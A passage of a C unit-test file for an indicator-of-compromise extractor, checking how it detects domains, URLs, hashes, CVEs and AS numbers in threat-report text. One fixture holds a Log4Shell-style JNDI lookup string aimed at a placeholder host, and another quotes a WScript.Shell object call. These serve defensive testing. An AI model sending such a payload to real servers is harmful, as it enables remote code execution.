		    "7.2.4.19, verzió 7.2.4.20, phiên bản 7.2.4.21",
		"версия 7.2.5.1, версии 7.2.5.2, Версия 7.2.5.3, версія "
		    "7.2.5.4, الإصدار 7.2.5.5, גרסה 7.2.5.6, نسخه 7.2.5.7, "
		    "เวอร์ชัน 7.2.5.8",
		/* ... and what the version is of, as "firmware version"
		 * says in English: software (Russian's "ПО", "ВПО" malware,
		 * Ukrainian's "ПЗ"), firmware, a kernel; "the version is" */
		"Версия вредоносного ПО 4.2.0.17, версия ВПО 7.2.5.9, "
		    "версия прошивки 7.2.5.10, версии ядра 7.2.5.11, версия "
		    "программного обеспечения 7.2.5.12, версія ПЗ 7.2.5.13, "
		    "wersja oprogramowania 7.2.5.14",
		"软件版本为7.2.5.15，版本是 7.2.5.16，版本号为7.2.5.17；"
		    "バージョンは7.2.5.18です。버전은 7.2.5.19",
		/* an operating system's release after its name alone
		 * (FortiOS's gave the US DoD's network) */
		"JPCERT/CCでは、FortiOS 7.4.2.1 を標的とした攻撃を確認, "
		    "PAN-OS 10.2.9.2, NX-OS 9.3.10.1, RouterOS 6.49.10.1, "
		    "SonicOS 7.0.1.5, macOS 14.2.1.1",
		/* ... and an advisory's words in them before the number:
		 * fixed in, versions before, up to, update to (each gave
		 * an address) */
		"FortiOS-Versionen vor 7.2.7.1 sind betroffen, behoben in "
		    "7.2.7.2; bis einschließlich 7.2.7.3, Update auf 7.2.7.4. "
		    "Versions antérieures à 7.2.7.5, corrigé dans la 7.2.7.6, "
		    "mise à jour vers 7.2.7.7. Versiones anteriores a la "
		    "7.2.7.8, corregido en 7.2.7.9, hasta la 7.2.7.10, "
		    "actualice a 7.2.7.11. Versioni precedenti alla 7.2.7.12, "
		    "corretto in 7.2.7.13. Corrigido em 7.2.7.14, atualize "
		    "para 7.2.7.15, corrigida na 7.2.7.16, anteriores à "
		    "7.2.7.17",
		/* an XML element's text that a version's name holds: a
		 * package's, an assembly's, an app's Info.plist */
		"<version>9.1.3.1</version> <AssemblyVersion>9.1.3.2"
		    "</AssemblyVersion>\n<key>CFBundleShortVersionString</key>"
		    "\n\t<string>9.1.3.3</string><key>CFBundleVersion</key>"
		    "<string>9.1.3.4</string>",
		/* ... and "and earlier" in them after the number */
		"FortiOS 7.2.6.1 y anteriores; 7.2.6.2 e anteriores, 7.2.6.3 "
		    "e precedenti, 7.2.6.4 und älter, 7.2.6.5 et antérieures, "
		    "7.2.6.6 i starsze, 7.2.6.7 ve öncesi, 7.2.6.8 и ниже, "
		    "7.2.6.9 및 이전, 7.2.6.10 버전",
		/* a kernel's release, as uname and SNMP's sysDescr (a
		 * scan report's column) give it: after "Linux" or
		 * "kernel", or before its build's "#1 SMP" (2.6.24.111
		 * was Orange's network) */
		"Linux DD-WRT 2.6.24.111 #22164 Mon Jul 15 2013 mips, "
		    "Linux rt-ac68u 2.6.36.4 #1 SMP PREEMPT, Linux 3.10.14.2 "
		    "armv7l, kernel 4.4.60.1, x 4.9.0.2 #3 PREEMPT_DYNAMIC",
		/* an advisory's table: a release train, then the first
		 * release on it that is fixed */
		"Cisco ASA Software Release\tFirst Fixed Release\n"
		    "9.16\t9.16.4.42\n9.18   9.18.2.5\n| 9.17 | 9.17.1.30 |\n"
		    "| 9.19.1 | 9.19.1.28 |",
		/* an OpenPGP key's fingerprint, as a signature block or a
		 * link gives it (v4's 40 hex digits, v5's and v6's 64) */
		"Key fingerprint: 7A3F0C2B9E4D81F6A2C5B0E9D8F7A6B5C4D3E2F1\n"
		    "PGP Fingerprint = 6A3F0C2B9E4D81F6A2C5B0E9D8F7A6B5C4D3E2F1 "
		    "GnuPG fingerprint 5A3F0C2B9E4D81F6A2C5B0E9D8F7A6B5C4D3E2F1 "
		    "openpgp4fpr:8B3F0C2B9E4D81F6A2C5B0E9D8F7A6B5C4D3E2F1 "
		    "fpr:9B3F0C2B9E4D81F6A2C5B0E9D8F7A6B5C4D3E2F1 OpenPGP "
		    "fingerprint: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b"
		    "934ca495991b7852b855",
		/* sums with dots between their thousands */
		"Perdas de R$ 2.100.000.000, 1.200.150.000 euros, "
		    "10.000.000.000 Dollar, 1.000.000.000 \u0440\u0443\u0431.",
		"see report.pdf, setup.exe, install.sh, README.md, Makefile.am",
		/* files under such TLDs with more dots */
		"config.h.in, README.en.md, x.pb.cc, exploit.pl, Makefile.in, "
		    "example.com.zip, com.example.app.sh, mail.pl, login.sh, "
		    "login.test.py, mail.config.in",
		"Exploit.java, log4j.properties, invoice.one, update.cab, "
		    "main.tf, Module.pm, Code.gs",
		"Message-ID: <4711.1.report@auscert.example>",
		/* message ids quoted in prose and bounces: Mutt's, Gmail's,
		 * Exchange Online's, Amazon SES's (each gave an address) */
		"your message <20261124083011.GA12345@mail.partner-cert.org> "
		    "of Monday; Message <CAKz0fB9q+1x2Y3z4W5v6U7t8S9r0Q@mail."
		    "gmail.com> was rejected; <DB9PR08MB6587A1B2C3D4E5F6A7B8"
		    "C9D0E1F2A3B4C5D6@DB9PR08MB6587.eurprd08.prod.outlook.com>"
		    " msgid 5f2b7c0e-9d8a-4b3c-8d5e-6f708192a3b4@eu-west-1."
		    "amazonses.com, return path 0100018c2a1b3c4d-5e6f7a8b-9c0d"
		    "-4e1f-a2b3-c4d5e6f7a8b9-000000@amazonses.com",
		"References: <a@b.example> <c@d.example>",
		"-----BEGIN PGP SIGNATURE-----\n\niQEzBAEBCAAd+evil.example.com\n"
		    "-----END PGP SIGNATURE-----",
		"Subject: [CNCERT #12] [AUSCERT #4711]",
		"------=_Part_1234_5678.1700000000000",
		"1.2.3.4.5 is an OID, 999.1.1.1 no address",
		/* a digest's length, a letter past f: no hex */
		"0123456789abcdeg0123456789abcdef 0123456789ABCDEG0123456789AB"
		    "CDEF",
		"example.nope, tooshor.t, x.x.x.x, _____.tld",
		/* an address with octets masked, as a report redacts one
		 * (.xxx is a real suffix) */
		"198.51.100.xxx, 198.51.XXX.XXX, xxx.xxx.xxx.xxx, 12.34.xxx, "
		    "hxxp://203.0.113[.]xxx/x 198.51.xxxx.xxx",
		"std::vector and a::b, 10:30",
		/* hex and colons, then letters: a word, no address */
		"2001:db8::g cafe::babe:g1",
		"AS 4 hosts, ASIA, ASN, CVE-24-1",
		"0123456789abcdef0123456789abcdef0 (33 hex)",
		/* placeholders: a digest's hex has a digit */
		"deadbeefdeadbeefdeadbeefdeadbeef "
		    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
		/* a host name is letters, digits, '-' (and DNS's '_') */
		"a+b.com a~b.com a%b.com a&b.com a$b.com",
		/* a MIME boundary's hex is no hash, even after "=" */
		"boundary=bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb "
		    "Boundary=\"0123456789abcdef0123456789abcdef\"",
		/* RFC 2392: a part's or a message's id, not an address */
		"[cid:image001.png@01D9A0B1.C2D3E4F0] "
		    "<img src=\"cid:part1.8C5E6A81.D0C1B91A@example.com\"> "
		    "mid:4711@auscert.org",
		/* code a phishing kit's page or script holds: a template's
		 * variables, calls, comparisons (.name, .info, .top, .link
		 * and .app are real suffixes) */
		"Dear {{person.name}}, {{ site.link }}, ${user.app}, "
		    "{{#a.b.c.name}}, {{ person.name|upper }}",
		"console.info(\"loaded\"); window.close(); "
		    "if (window.top != self) window.top.location = x; "
		    "if (document.domain == 'x') y();",
		"this.name = 1; obj.name; x = user.id; y = window.top; "
		    "location.host, el.style and console.info",
		/* a configuration's fields (.host and .name are real
		 * suffixes) */
		"connect(config.host, cfg.name); server.host = env.host; "
		    "data.id, settings.page, client.name",
		/* an Android app's or a Java package's name */
		"com.example.app, com.bank.mobile, org.mozilla.firefox",
		/* an IDS rule's or a log's fields */
		"content:\"x\"; http.host; tls.sni; dns.query; file.name;",
		/* a style sheet's selectors; a document's field names */
		"a.black {\n  color: black;\n}\ntable.info{}\n"
		    "| `Report.Date` | `timestamp` |, Console.Info",
		/* a script's COM objects, a message's MAPI class, labels
		 * of mixed case before a capitalized suffix (each gave
		 * a domain under .shell, .stream or .microsoft) */
		"Set sh = CreateObject(\"WScript.Shell\")\nSet st = "
		    "CreateObject(\"ADODB.Stream\") IPM.Microsoft Mail.Note "
		    "Evil.this.Best",
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(quiet) / sizeof(quiet[0]); i++)
		expect(quiet[i], "");
}

/* A word glued to a scheme ("click here" lost its blank): the URL
 * starts at the scheme; a letter alone before it makes another scheme,
 * whose host is still found. */
static void
test_glued_schemes(void **state)
{
	(void)state;
	expect("clickhttp://evil.com/x herehttps://evil.net/y?z=1 "
	    "CLICKHTTPS://UP.COM/A downloadftp://198.51.100.7/p",
	    "url http://evil.com/x public\ndomain evil.com public\n"
	    "url https://evil.net/y?z=1 public\ndomain evil.net public\n"
	    "url https://up.com/A public\ndomain up.com public\n"
	    "url ftp://198.51.100.7/p documentation\n"
	    "ipv4 198.51.100.7 documentation\n");
	expect("sftp://files.evil.org/a xhttp://one.com/q",
	    "domain files.evil.org public\ndomain one.com public\n");
	/* defanged too; a word ending so, not before "://", is a word */
	expect("clickhxxp://evil[.]com/x hereHXXPS[://]evil.net/y "
	    "getfxp[:]//198.51.100.7/p",
	    "url http://evil.com/x public defanged\n"
	    "domain evil.com public defanged\n"
	    "url https://evil.net/y public defanged\n"
	    "domain evil.net public\n"
	    "url ftp://198.51.100.7/p documentation defanged\n"
	    "ipv4 198.51.100.7 documentation\n");
	expect("thehxxp: word, ahxxp[:] no, xfxp:1.com",
	    "domain 1.com public\n");
}

/* A line too long to read whole is cut after a blank between two
 * words of four letters or digits at least, the second starting with a
 * letter: never inside what is written with blanks. */
static void
test_line_cut(void **state)
{
	const char *t;

	(void)state;
	t = "first words evil dot com";
	assert_int_equal(ioc_line_cut(t, strlen(t)), 12);	/* "evil" */
	t = "reported ASN 4134";
	assert_int_equal(ioc_line_cut(t, strlen(t)), strlen(t));
	t = "abuse at evil [.] com CVE 2024-3094 and 1.2.3.4 - 1.2.3.9";
	assert_int_equal(ioc_line_cut(t, strlen(t)), strlen(t));
	t = "hosts\tevil5 dot com";
	assert_int_equal(ioc_line_cut(t, strlen(t)), 6);
	t = "[.][.][.]";
	assert_int_equal(ioc_line_cut(t, strlen(t)), strlen(t));
	assert_int_equal(ioc_line_cut("", 0), 0);
	/* ioc_part_cut: after the last line end, or in the line */
	t = "hosts here\nwords evil dot com";
	assert_int_equal(ioc_part_cut(t, strlen(t), strchr(t, '\n')), 11);
	t = "first words evil dot com";
	assert_int_equal(ioc_part_cut(t, strlen(t), NULL), 12);
}

/* An antivirus engine's name of what it found, as a scan's list of
 * engines writes them, is no host: Kaspersky's variants are letters
 * that are ccTLDs. Before, "Trojan-Spy.Win32.Agent.co" was the domain
 * trojan-spy.win32.agent.co, and "Trojan.TR/Crypt.XPACK.Gen" a URL;
 * the CVE id in "Exploit.MSOffice.CVE-2017-11882.gen" was none, and
 * in ClamAV's "Win.Exploit.CVE_2017_11882-6428335-0" or a link's
 * "/CVE-2021-44228-poc" until later in the session. */
static void
test_detection_names(void **state)
{
	(void)state;
	expect("Kaspersky: Trojan-Spy.Win32.Agent.co\n"
	    "Kaspersky: HEUR:Backdoor.Linux.Gafgyt.bj\n"
	    "Kaspersky: UDS:Trojan.Win32.Agent.me\n"
	    "Kaspersky: Email-Worm.Win32.Brontok.cz\n"
	    "Kaspersky: Trojan-Banker.AndroidOS.Anubis.tv\n"
	    "Kaspersky: Trojan-Downloader.VBS.Agent.al\n"
	    "Kaspersky: HackTool.Win32.Mimikatz.at\n"
	    "Kaspersky: not-a-virus:RiskTool.Win32.BitCoinMiner.ca\n"
	    "Tencent: Win32.Trojan.Agent.Ws\n"
	    "F-Secure: Trojan.TR/Crypt.XPACK.Gen\n"
	    "ESET-NOD32: Android/Spy.Agent.AES\n", "");
	/* the flaw a name says its sample exploits is one */
	expect("Kaspersky: Exploit.MSOffice.CVE-2017-11882.gen\n"
	    "ESET-NOD32: Win32/Exploit.CVE-2017-11883.A\n"
	    "Microsoft: Exploit:O97M/CVE-2017-11884.RV!MTB\n"
	    "exploit_CVE-2021-44228.py Exploit.CVE-2017-1234567890.a\n"
	    "ClamAV: Win.Exploit.CVE_2017_11885-6428335-0 FOUND\n"
	    "https://github.com/x/CVE-2021-44229-poc CVE-2021-44230-poc "
	    "CVE-2021-4423x CVE-2017-0199.rtf",
	    "cve CVE-2017-11882 public\n"
	    "cve CVE-2017-11883 public\n"
	    "cve CVE-2017-11884 public\n"
	    "cve CVE-2021-44228 public\n"
	    "cve CVE-2017-11885 public\n"
	    "url https://github.com/x/CVE-2021-44229-poc public\n"
	    "domain github.com public\n"
	    "cve CVE-2021-44229 public\n"
	    "cve CVE-2021-44230 public\n"
	    "cve CVE-2017-0199 public\n");
	/* written as a host is, in small letters or defanged, or with
	 * neither a kind nor a platform, a name is a host */
	expect("trojan.win32.evil.me Trojan.Win32.Evil[.]me "
	    "Monitor.Shell.com Trojan.Evil.com www.linux.org worm.tr",
	    "domain trojan.win32.evil.me public\n"
	    "domain trojan.win32.evil.me public defanged\n"
	    "domain monitor.shell.com public\n"
	    "domain trojan.evil.com public\n"
	    "domain www.linux.org public\n"
	    "domain worm.tr public\n");
}

/* ... and hosts written next to the same characters in prose stay
 * hosts. */
static void
test_code_or_prose(void **state)
{
	(void)state;
	/* Microsoft's frameworks, as advisories write them, are no hosts;
	 * written otherwise, or defanged, they are */
	expect("an ASP.NET web shell, VB.NET and ADO.NET code, ML.NET, "
	    "ASP.NET_SessionId; it uses System.Net, and System.Net.", "");
	expect("system.net System[.]Net www.System.Net",
	    "domain system.net public\n"
	    "domain system.net public defanged\n"
	    "domain www.system.net public\n");
	expect("asp.net Asp.Net ASP.Net VB[.]NET www.asp.net XASP.NET "
	    "AS.NET ASPX.NET Asp.NET",
	    "domain asp.net public\ndomain asp.net public\n"
	    "domain asp.net public\ndomain vb.net public defanged\n"
	    "domain www.asp.net public\ndomain xasp.net public\n"
	    "domain as.net public\ndomain aspx.net public\n"
	    "domain asp.net public\n");
	expect("{evil.com} (evil.net) evil.org(x) evil.info; [evil.name]",
	    "domain evil.com public\ndomain evil.net public\n"
	    "domain evil.org public\ndomain evil.info public\n"
	    "domain evil.name public\n");
	expect("{ {evil.com} } evil.com = 1 evil.com(s)",
	    "domain evil.com public\ndomain evil.com public\n"
	    "domain evil.com public\n");
	/* the same objects' other names, and those names where the
	 * text says host */
	expect("file.io data.ru config.com elsewhere.info "
	    "hxxp://user[.]id/x this[.]name www.user.id",
	    "domain file.io public\ndomain data.ru public\n"
	    "domain config.com public\n"
	    "domain elsewhere.info public\n"
	    "url http://user.id/x public defanged\n"
	    "domain user.id public defanged\n"
	    "domain this.name public defanged\n"
	    "domain www.user.id public\n");
	/* a host named after a top-level domain, and a reverse-DNS name
	 * where the text says host */
	expect("com.top net.evil.com hxxp://com.example.app/x "
	    "com[.]bank.mobile",
	    "domain com.top public\n"
	    "domain net.evil.com public\n"
	    "url http://com.example.app/x public defanged\n"
	    "domain com.example.app public\n"
	    "domain com.bank.mobile public defanged\n");
	/* capitalized as people write hosts, and a field's name where
	 * the text says host ("System.Net" is .NET's namespace:
	 * framework_name) */
	expect("Evil.com EVIL.COM Evil.Com Bank.Cn Evil.Net Report[.]Date",
	    "domain evil.com public\ndomain evil.com public\n"
	    "domain evil.com public\ndomain bank.cn public\n"
	    "domain evil.net public\n"
	    "domain report.date public defanged\n");
	/* a call with a list, an object, a template or a call in it;
	 * a word alone in parentheses after a host is prose */
	expect("subprocess.run(['sh']) asyncio.run(main()) "
	    "array.map({a: 1}) tpl.run(`x`) array.map((x) => x) "
	    "util.run(do_it()) "
	    "evil.run(mirror) evil.click(5 hosts) evil.app( x",
	    "domain evil.run public\ndomain evil.click public\n"
	    "domain evil.app public\n");
	/* a word alone in them: a call after a program's object, or
	 * before a ';' or a method's '.' */
	expect("window.open(url) document.open(u) fs.read(fd); "
	    "page.click(sel).then(f) df.show(5);", "");
	expect("evil.open(mirror) evil.live(x). Then evil.show(5).\n",
	    "domain evil.open public\ndomain evil.live public\n"
	    "domain evil.show public\n");
	expect("window.evil.top(mirror) this.live(5 hosts)",
	    "domain window.evil.top public\ndomain this.live public\n");
	/* a stack trace's frames: a method called from its place in the
	 * source (io.netty...run gave a name under .run); a host and its
	 * port in parentheses, or a source's line that is none, stay */
	expect("\tat io.netty.channel.nio.NioEventLoop.run(NioEventLoop.java"
	    ":569)\n\tat io.x.Main.run(Native Method)\n\tat io.y.Z.run("
	    "Unknown Source)\n\tat net.q.W.run(W.kt:12)\n    at x.Y.run("
	    "app.js:10:5)\n", "");
	expect("evil.run(mirror.com:8080) bad.run(x.java:1x) "
	    "odd.run(x.txt:12)",
	    "domain evil.run public\ndomain mirror.com public\n"
	    "domain bad.run public\ndomain odd.run public\n");
	/* a sentence's end and the next one's first word with no blank
	 * between: a small-letter name and a capitalized suffix */
	expect("Check this.Best regards; we blocked it.Today, ok.Google "
	    "said; my-site.Online", "");
	expect("this.best this[.]Best http://it.Today/x evil.Com "
	    "Evil.this.best",
	    "domain this.best public\ndomain this.best public defanged\n"
	    "url http://it.today/x public\ndomain it.today public\n"
	    "domain evil.com public\ndomain evil.this.best public\n");
	/* a crawler's page in its User-Agent's comment, as a web log
	 * gives it; an agent's other URLs, and prose's */
	expect("\"Mozilla/5.0 (compatible; Googlebot/2.1; "
	    "+http://www.google.com/bot.html)\" \"Mozilla/5.0 (compatible; "
	    "MJ12bot/v1.4.8; http://mj12bot.com/)\" facebookexternalhit/1.1 "
	    "(+http://www.facebook.com/externalhit_uatext.php) (compatible; "
	    "Bot/1.0;+http://bot.example.com/)\n"
	    "UA: ${jndi:ldap://evil.com/a} (see; http://evil2.com/x) "
	    "(X11; Linux; http://evil3.com/x) (http://evil4.com/y) "
	    "(compatible; Bot) see; http://evil5.com/z "
	    "(compatible; see http://evil6.com/a)",
	    "domain evil.com public\n"
	    "url http://evil2.com/x public\ndomain evil2.com public\n"
	    "url http://evil3.com/x public\ndomain evil3.com public\n"
	    "url http://evil4.com/y public\ndomain evil4.com public\n"
	    "url http://evil5.com/z public\ndomain evil5.com public\n"
	    "url http://evil6.com/a public\ndomain evil6.com public\n");
	/* "+http://" after the crawler's name in the comment, and a
	 * comment that is a URL alone after a product and its version;
	 * not a '+' glued to a word, nor after the comment, nor a comment
	 * of more than the URL, nor a product without a version */
	expect("\"Mozilla/5.0 (compatible; archive.org_bot "
	    "+http://archive.org/details/archive.org_bot)\" "
	    "\"CCBot/2.0 (https://commoncrawl.org/faq/)\"\n"
	    "CCBot/2.0 (https://commoncrawl.org/faq/)\n"
	    "Slack-Bot_x/1.0 (https://slack.com/robots)\n"
	    "a+http://evil7.com/ (compatible; x) +http://evil8.com/ "
	    "x:Bot/2.0 (https://evil13.com/a) Bot/2.0(https://evil14.com/a) "
	    "Name/2.0 (https://evil9.com/a and more) "
	    "Name/x (https://evil10.com/a) Name/2.0  (https://evil11.com/a) "
	    "/2.0 (https://evil12.com/a)",
	    "url http://evil7.com/ public\ndomain evil7.com public\n"
	    "url http://evil8.com/ public\ndomain evil8.com public\n"
	    "url https://evil13.com/a public\ndomain evil13.com public\n"
	    "url https://evil14.com/a public\ndomain evil14.com public\n"
	    "url https://evil9.com/a public\ndomain evil9.com public\n"
	    "url https://evil10.com/a public\ndomain evil10.com public\n"
	    "url https://evil11.com/a public\ndomain evil11.com public\n"
	    "url https://evil12.com/a public\ndomain evil12.com public\n");
	/* a string in a script may well hold a host */
	expect("fetch('evil.info'); x = \"evil.top\";",
	    "domain evil.info public\ndomain evil.top public\n");
	/* a URL's host is no call */
	expect("http://evil.com/() http://evil.com/x(\"y\")",
	    "url http://evil.com/() public\n"
	    "domain evil.com public\n"
	    "url http://evil.com/x( public\n"
	    "domain evil.com public\n");
}

/*
 * Scan steps over words 16 bytes at a time: every indicator is found
 * wherever it falls against those steps, the ones read from the word
 * before them ("AS 4134", "ASN 4134") and after long runs of words.
 */
static void
test_word_steps(void **state)
{
	static const char *const after[] = {
		"AS 4134 and ASN 4837", "evil.example.com", "(192.0.2.1)",
		"src=198.51.100.7", "hxxp://evil[.]example.com/x",
		"list-bounces+alice=example.com@lists.example.org",
		"8c2e7f3a0b1d4c5e6f708192a3b4c5d6",
	};
	static const char *const want[] = {
		"asn AS4134 public\nasn AS4837 public\n",
		"domain evil.example.com documentation\n",
		"ipv4 192.0.2.1 documentation\n",
		"ipv4 198.51.100.7 documentation\n",
		"url http://evil.example.com/x documentation defanged\n"
		    "domain evil.example.com documentation defanged\n",
		"email list-bounces+alice=example.com@lists.example.org "
		    "documentation\n",
		"md5 8c2e7f3a0b1d4c5e6f708192a3b4c5d6 public\n",
	};
	char text[512];
	size_t k, i;

	(void)state;
	for (i = 0; i < sizeof(after) / sizeof(after[0]); i++) {
		for (k = 0; k < 40; k++) {
			/* k bytes of words, then the indicator */
			snprintf(text, sizeof(text), "%.*s%s and more words "
			    "to close the line\n", (int)k + 1, "Please note "
			    "that our partners have seen the following "
			    "hosts: ", after[i]);
			text[k] = ' ';
			expect(text, want[i]);
		}
	}
}

/*
 * Two addresses with each byte that ends a token between them, at every
 * position of a 16-byte step: token_run steps over letters, digits and
 * ".-@" and must stop at each of these.
 */
static void
test_token_cuts(void **state)
{
	static const char stops[] = " \t<>\"'`(){}[],;|\\^*!=";
	char text[256], want[128];
	size_t c, k;

	(void)state;
	snprintf(want, sizeof(want), "ipv4 198.51.100.1 documentation\n"
	    "ipv4 198.51.100.22 documentation\n");
	for (c = 0; c < sizeof(stops) - 1; c++) {
		for (k = 0; k < 17; k++) {
			snprintf(text, sizeof(text), "%.*s198.51.100.1%c"
			    "198.51.100.22 and words enough for a step\n",
			    (int)k, "abcdefghijklmnopq", stops[c]);
			if (k > 0)
				text[k - 1] = ' ';
			expect(text, want);
		}
	}
	/* a scheme right after digits starts a URL (a column glued to the
	 * next); inside a word it is none, its host a host all the same */
	expect("2024-11-22http://evil.com.cn/a and words after it\n",
	    "url http://evil.com.cn/a public\ndomain evil.com.cn public\n");
	expect("xhttp://evil.com.cn/a and words after it\n",
	    "domain evil.com.cn public\n");
	/* a mark before a word with no other (a tag, Markdown's emphasis,
	 * a path's slash) does not make it a plain word */
	expect("#CVE-2024-3094 and _CVE-2021-44228_ in /cve-2023-4863; "
	    "#AS4134 and -AS4837, _AS4808_, "
	    "#d41d8cd98f00b204e9800998ecf8427e and "
	    "_da39a3ee5e6b4b0d3255bfef95601890afd80709_ seen\n",
	    "cve CVE-2024-3094 public\ncve CVE-2021-44228 public\n"
	    "cve CVE-2023-4863 public\nasn AS4134 public\n"
	    "asn AS4837 public\nasn AS4808 public\n"
	    "md5 d41d8cd98f00b204e9800998ecf8427e public\n"
	    "sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709 public\n");
	/* an AS number, a slash and more: each (asn_slash); AS0 is none,
	 * nor are "AS4134x" (the AS3 after it is) and IBM's AS/400 */
	expect("AS4134/AS4837 ASN:4809/CN AS9808/198.51.100.7 AS0/AS1 "
	    "AS4134x/AS3 AS/400 AS1.10/AS2\n",
	    "asn AS4134 public\nasn AS4837 public\nasn AS4809 public\n"
	    "asn AS9808 public\nipv4 198.51.100.7 documentation\n"
	    "asn AS1 public\nasn AS3 public\nasn AS65546 documentation\n"
	    "asn AS2 public\n");
	/* something else, a slash and an AS number that ends the token:
	 * each (slash_asn); a path that goes on after it is a path */
	expect("198.51.100.9/AS4134 CN/AS4837/9808 evil.example.com/AS4538 "
	    "2001:db8::7/ASN:4809 198.51.100.0/24/AS23724 x/ASP.NET "
	    "a/AS17x www.evil.com/AX1 www.evil.com/AS1234/index.html "
	    "198.51.100.8/AS4134/x\n",
	    "ipv4 198.51.100.9 documentation\nasn AS4134 public\n"
	    "asn AS4837 public\nasn AS9808 public\n"
	    "domain evil.example.com documentation\nasn AS4538 public\n"
	    "ipv6 2001:db8::7 documentation\nasn AS4809 public\n"
	    "cidr 198.51.100.0/24 documentation\nasn AS23724 public\n"
	    "url http://www.evil.com/AX1 public\n"
	    "domain www.evil.com public\n"
	    "url http://www.evil.com/AS1234/index.html public\n"
	    "domain www.evil.com public\n"
	    "url http://198.51.100.8/AS4134/x documentation\n"
	    "ipv4 198.51.100.8 documentation\n");
	/* numbers alone after the slashes: a list of AS numbers, up to
	 * the token's end (a sentence's end after it) or to a slash and
	 * more, each part after it read on its own ("/CN", an address,
	 * another AS number); a number with more glued on is none */
	expect("Telecom/Unicom/Mobile (AS4134/4837/9808). AS3356/174 "
	    "AS7018/701x AS1299/0 AS6939/2914/CN AS6453/6461. "
	    "AS64512-65534 AS7018/7132.x\n",
	    "asn AS4134 public\nasn AS4837 public\nasn AS9808 public\n"
	    "asn AS3356 public\nasn AS174 public\nasn AS7018 public\n"
	    "asn AS1299 public\nasn AS6939 public\nasn AS2914 public\n"
	    "asn AS6453 public\nasn AS6461 public\n");
	expect("AS4134/AS4837/AS9808 AS3462/4780/198.51.100.7 "
	    "AS4809/4538/ AS17621/CN/AS4812 _AS9929/58453_\n",
	    "asn AS4134 public\nasn AS4837 public\nasn AS9808 public\n"
	    "asn AS3462 public\nasn AS4780 public\n"
	    "ipv4 198.51.100.7 documentation\nasn AS4809 public\n"
	    "asn AS4538 public\nasn AS17621 public\nasn AS4812 public\n"
	    "asn AS9929 public\nasn AS58453 public\n");
	/* RFC 4514's hex value of an X.509 name ("E=#" and the address's
	 * 16 bytes): no MD5 */
	expect("Subject: E=#74657374406578616D706C652E636F6D,CN=Test\n", "");
}

/*
 * One scanner, names under many top-level domains, real and made up,
 * each asked twice: whether the list names a TLD is remembered, and no
 * answer stands in for another TLD's. (Not .in, .pl: file names' too;
 * not .za, which the list names only under co.za and the like.)
 */
static void
test_many_tlds(void **state)
{
	static const char *const real[] = {
		"com", "org", "net", "cn", "de", "ru", "uk", "jp", "fr", "io",
		"info", "biz", "xyz", "top", "shop", "site", "online", "club",
		"br", "au", "nl", "it", "es", "kr", "tw", "hk",
		"vn", "id", "ir", "tr", "ua", "mx", "ar", "ca", "ch",
		"se", "no", "fi", "dk", "be", "at", "cz", "gr", "pt", "ro",
	};
	struct buf text = BUF_INIT, want = BUF_INIT;
	char fake[16], *got;
	size_t i, round;

	(void)state;
	for (round = 0; round < 2; round++)
		for (i = 0; i < sizeof(real) / sizeof(real[0]); i++) {
			snprintf(fake, sizeof(fake), "qz%zuxk", i);
			buf_addf(&text, "host%zu.example%zu.%s and "
			    "host%zu.example%zu.%s\n", i, round, real[i], i,
			    round, fake);
			buf_addf(&want, "domain host%zu.example%zu.%s public\n",
			    i, round, real[i]);
		}
	got = scan(text.data);
	assert_string_equal(got, want.data);
	free(got);
	buf_release(&text);
	buf_release(&want);
}

/*
 * Long values (a length past 65,535 is kept in a slot as that), alike
 * but for their last byte or their length: kept whole, counted apart,
 * found again. (Values are compared only when two hashes share their
 * high half along one probe: no test makes that happen.)
 */
static void
test_set_long_values(void **state)
{
	static const size_t lens[] = { 60, 61, 70000, 70000, 70001 };
	struct ioc_set *set = ioc_set_new();
	const struct ioc_entry *e;
	char *v[5];
	size_t i, round;

	(void)state;
	for (i = 0; i < 5; i++) {	/* one prefix; the last byte differs */
		v[i] = malloc(lens[i] + 1);
		assert_non_null(v[i]);
		memset(v[i], 'a', lens[i]);
		v[i][lens[i] - 1] = (char)('0' + i);
		v[i][lens[i]] = '\0';
	}
	v[1][59] = '0';	/* v[1]: v[0] and one byte more */
	v[1][60] = 'x';
	for (round = 0; round < 3; round++)
		for (i = 0; i < 5; i++)
			ioc_set_add(set, &(struct ioc){ .type = IOC_URL,
			    .value = v[i] }, NULL);
	assert_int_equal(ioc_set_count(set), 5);
	for (i = 0; i < 5; i++) {
		e = ioc_set_get(set, i);
		assert_string_equal(e->value, v[i]);
		assert_int_equal(e->count, 3);
		assert_true(ioc_set_contains(set, IOC_URL, v[i]));
		free(v[i]);
	}
	ioc_set_free(set);
}

/* Logs write "key=value" and "key:value"; what follows the key is
 * looked at as a token of its own. */
static void
test_keyed_values(void **state)
{
	(void)state;
	expect("SRC=192.0.2.1 DST=198.51.100.2 src=8.8.8.8",
	    "ipv4 192.0.2.1 documentation\n"
	    "ipv4 198.51.100.2 documentation\nipv4 8.8.8.8 public\n");
	expect("host=evil.com d=phish.org header.from=spoof.net",
	    "domain evil.com public\ndomain phish.org public\n"
	    "domain spoof.net public\n");
	expect("ip:8.8.4.4 Re:evil.com domain:phish.org",
	    "ipv4 8.8.4.4 public\ndomain evil.com public\n"
	    "domain phish.org public\n");
	expect("md5:D41D8CD98F00B204E9800998ECF8427E",
	    "md5 d41d8cd98f00b204e9800998ecf8427e public\n");
	/* a key with '-' or '_', a header's without its blank: each
	 * address gave nothing */
	expect("Reply-To:phish@evil.com e-mail:x@evil.net src_ip:8.8.8.8 "
	    "X-Sender:y@evil.org",
	    "email phish@evil.com public\nemail x@evil.net public\n"
	    "ipv4 8.8.8.8 public\nemail y@evil.org public\n");
	expect("mailto:Abuse@Example.ORG",
	    "email Abuse@example.org documentation\n");
	/* an address ends where a mailto: link's query, a login's port
	 * or a leaked list's password starts (each gave nothing) */
	expect("mailto:abuse@evil.com?subject=phish victim@bank.com:Passw0rd! "
	    "admin@evil.org:8080",
	    "email abuse@evil.com public\n"
	    "email victim@bank.com public\n"
	    "email admin@evil.org public\n");
	/* a mailto: link's address encoded as a page's href writes it,
	 * its '@' "%40"; not elsewhere, nor an encoded "%", nor without
	 * a local part or a domain */
	expect("href=\"mailto:abuse%40evil.com?subject=x\" "
	    "MAILTO:a%40b.evil.top john%40evil.net mailto:x%2540evil.org "
	    "mailto:%40evil.info mailto:y%40 e-mail:z%40evil.org",
